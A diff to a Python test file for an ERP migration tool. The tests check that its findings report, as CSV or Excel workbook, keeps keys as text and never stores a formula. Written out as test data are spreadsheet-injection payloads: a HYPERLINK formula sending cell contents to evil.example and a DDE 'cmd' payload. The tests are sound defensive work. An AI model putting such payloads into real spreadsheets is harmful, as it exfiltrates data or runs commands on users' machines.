@@ -3,9 +3,13 @@ and what it must never do with a value from the ERP (run it as a formula)."""
 from __future__ import annotations
 
 import csv
+import zipfile
 
-from engine.findings import Finding
-from engine.findings_report import write_findings_csv
+import pytest
+from openpyxl import load_workbook
+
+from engine.findings import CATALOGUE, Finding
+from engine.findings_report import COLUMNS, write_findings, write_findings_csv, write_findings_xlsx
 
 HOSTILE = {                          # ERP key -> what the report's cell must hold
     '=HYPERLINK("http://evil.example/?"&A1,"Details")': '\'=HYPERLINK("http://evil.example/?"&A1,"Details")',
@@ -49,3 +53,91 @@ def test_a_lone_surrogate_in_a_finding_is_written_as_its_escape(tmp_path):
     write_findings_csv([Finding("rejected", "users", "K\ud800-1", "400 invalid: last_name is not UTF-8")], report)
     [r] = read_csv(report)
     assert r["erp_key"] == "K\\ud800-1"
+
+
+def test_the_workbook_of_a_plan_shows_every_finding_as_text_under_a_bold_header_that_stays_in_view(ws, manifest):
+    """`plan --findings report.xlsx`, opened as Excel opens it: the findings sheet has the CSV's
+    columns as a bold, frozen header with an autofilter over all rows, one row per finding, the
+    ERP keys as text (a contract's key 5000019/1000021 no date or fraction, a unit's key no
+    number), empty fields empty, columns wide enough to read; the sheet `per code` counts them,
+    errors first."""
+    path = ws.tenant_file()
+    code, summary, err = ws.cli_json("plan", str(path), "--no-out", "--date", "2026-06-01", "--findings", "report.xlsx")
+    assert code == 0, err
+    book = load_workbook(ws.root / "report.xlsx")
+    assert book.sheetnames == ["findings", "per code"]
+    sheet = book["findings"]
+    header, *rows = list(sheet.iter_rows())
+    assert tuple(c.value for c in header) == COLUMNS and all(c.font.b for c in header)
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:G{len(rows) + 1}"
+    assert len(rows) == sum(summary["findings"].values())
+    values = [tuple(c.value for c in r) for r in rows]
+
+    garbage = manifest.cases["phone_garbage"][0]                 # a phone number that is none
+    (p,), raw = garbage["adressnr"], garbage["raw"]
+    fix = CATALOGUE["phone_invalid"][2]
+    assert [v for v in values if v[:4] == ("warning", "phone_invalid", "users", str(p)) and v[4] == "phone"] == [
+        ("warning", "phone_invalid", "users", str(p), "phone", f"{raw!r} is not a phone number; sent empty", fix)]
+    vacancy = manifest.cases["vacancy_contract"][0]              # a contract: its key has a slash
+    key = f"{vacancy['vertragnr'][0]}/{vacancy['adressnr'][0]}"
+    assert [v[:4] for v in values if v[3] == key and v[1] == "vacancy_contract"] == [
+        ("info", "vacancy_contract", "occupancies", key)]
+    keys = [r[3] for r in rows]
+    assert all(c.data_type == "s" and isinstance(c.value, str) for c in keys)
+    assert {c.value for c in keys} >= {str(u) for u in manifest.cases["phantom_by_flag"][0]["einheitid"]}
+    assert any(v[4] is None for v in values) and "" not in {v[4] for v in values}
+
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFG"}
+    assert widths["D"] >= len(key) and widths["F"] > widths["A"] and max(widths.values()) <= 82
+
+    per_code = [tuple(c.value for c in r) for r in book["per code"].iter_rows()]
+    assert per_code[0] == ("severity", "code", "findings", "what_to_fix")
+    assert {code: n for _, code, n, _ in per_code[1:]} == summary["findings"]
+    severities = [severity for severity, *_ in per_code[1:]]
+    assert severities == sorted(severities, key=["error", "warning", "info"].index)
+
+
+def test_a_workbook_keeps_erp_keys_as_they_are_and_never_stores_a_formula(tmp_path):
+    """An ERP key 0012 stays 0012, 1/12 is no date, 1e5 no number; a value starting like a formula
+    is stored as text, shown without an apostrophe, and marked to stay text when edited; the
+    workbook holds no formula at all. A control character XML cannot hold shows as its escape."""
+    keys = ["0012", "1/12", "5000456/1000021", "1e5", "2026-06-01", *HOSTILE]
+    findings = [Finding("invalid_record", "users", k, "country 'DEU' is not an ISO 3166-1 alpha-2 code", "country")
+                for k in keys] + [Finding("rejected", "users", "1000019", "=cmd|' /C calc'!A0"),
+                                  Finding("rejected", "users", "K\x0b1\ud800", "400 invalid")]
+    report = tmp_path / "report.xlsx"
+    write_findings(findings, report)
+    sheet = load_workbook(report)["findings"]
+    _, *rows = list(sheet.iter_rows())
+    assert [r[3].value for r in rows] == [*keys, "1000019", "K\\x0b1\\ud800"]
+    assert all(c.data_type == "s" for r in rows for c in r if c.value is not None)
+    assert rows[len(keys)][5].value == "=cmd|' /C calc'!A0"
+    for r in rows:
+        for c in r:
+            assert c.quotePrefix == (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t")))
+    with zipfile.ZipFile(report) as z:
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)
+
+
+@pytest.mark.parametrize("name, workbook", [("report.xlsx", True), ("REPORT.XLSX", True), ("report.csv", False),
+                                            ("report.txt", False), ("report", False), ("report.xls", False)])
+def test_the_file_name_chooses_the_format_a_workbook_only_for_xlsx(tmp_path, name, workbook):
+    """.xlsx in any case is a workbook; any other name is the CSV, as before there was a workbook."""
+    report = tmp_path / name
+    write_findings([Finding("phone_invalid", "users", "1000019", "'keine' is not a phone number", "phone")], report)
+    assert zipfile.is_zipfile(report) == workbook
+    if not workbook:
+        assert [r["erp_key"] for r in read_csv(report)] == ["1000019"]
+
+
+def test_more_findings_than_a_sheet_holds_go_on_to_the_next_sheet(tmp_path):
+    """An Excel sheet holds 1,048,576 rows; here a sheet of three: a header and two findings."""
+    findings = [Finding("user_without_occupancy", "users", str(1000000 + i), "no current contract") for i in range(5)]
+    report = tmp_path / "report.xlsx"
+    write_findings_xlsx(findings, report, sheet_rows=3)
+    book = load_workbook(report)
+    assert book.sheetnames == ["findings", "findings 2", "findings 3", "per code"]
+    keys = [[r[3] for r in book[name].iter_rows(values_only=True)] for name in book.sheetnames[:3]]
+    assert keys == [["erp_key", "1000000", "1000001"], ["erp_key", "1000002", "1000003"], ["erp_key", "1000004"]]
+    assert list(book["per code"].iter_rows(values_only=True))[1][1:3] == ("user_without_occupancy", 5)
